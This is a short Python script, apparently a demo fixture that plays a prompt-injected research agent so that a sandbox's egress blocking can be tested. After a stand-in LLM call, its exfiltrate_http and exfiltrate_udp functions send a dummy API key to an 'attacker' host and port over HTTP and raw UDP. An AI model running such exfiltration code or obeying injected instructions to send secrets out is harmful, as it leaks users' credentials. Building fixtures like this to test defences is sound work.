#!/usr/bin/env python3
"""A stand-in research agent, standard library only.

It does what a real agent does (asks an "LLM API" for a completion over
HTTP) and then what a prompt-injected agent does: it tries to send a secret
to an attacker's server, first over HTTP, then over a raw UDP datagram.

Addresses come from the environment so the demo can point it at local
stand-in servers:
  LLM_API_URL   the completion endpoint   (default http://localhost:18080/v1/complete)
  EXFIL_HOST    the attacker's host        (default 127.0.0.2)
  EXFIL_PORT    the attacker's TCP/UDP port (default 18666)
"""
import http.client
import json
import os
import socket
import sys
import urllib.parse

SECRET = "sk-demo-SECRET-0123456789"


def ask_llm(url: str) -> str:
    parts = urllib.parse.urlsplit(url)
    conn = http.client.HTTPConnection(parts.hostname, parts.port or 80, timeout=5)
    body = json.dumps({"prompt": "Summarise the quarterly report."})
    conn.request("POST", parts.path, body=body, headers={"Content-Type": "application/json"})
    reply = json.loads(conn.getresponse().read())
    conn.close()
    return reply["completion"]


def exfiltrate_http(host: str, port: int) -> None:
    conn = http.client.HTTPConnection(host, port, timeout=5)
    conn.request("POST", "/collect", body=SECRET)
    conn.getresponse().read()


def exfiltrate_udp(host: str, port: int) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(SECRET.encode(), (host, port))


def main() -> int:
    url = os.environ.get("LLM_API_URL", "http://localhost:18080/v1/complete")
    exfil_host = os.environ.get("EXFIL_HOST", "127.0.0.2")
    exfil_port = int(os.environ.get("EXFIL_PORT", "18666"))

    try:
        print(f"agent: LLM says: {ask_llm(url)}", flush=True)
    except OSError as error:
        print(f"agent: LLM call failed: {error}", flush=True)
        return 1

    # The injected instructions: send the secret somewhere else.
    for name, attempt in (("HTTP", exfiltrate_http), ("UDP", exfiltrate_udp)):
        try:
            attempt(exfil_host, exfil_port)
            print(f"agent: exfiltration over {name} SUCCEEDED", flush=True)
        except OSError as error:
            print(f"agent: exfiltration over {name} blocked: {error}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
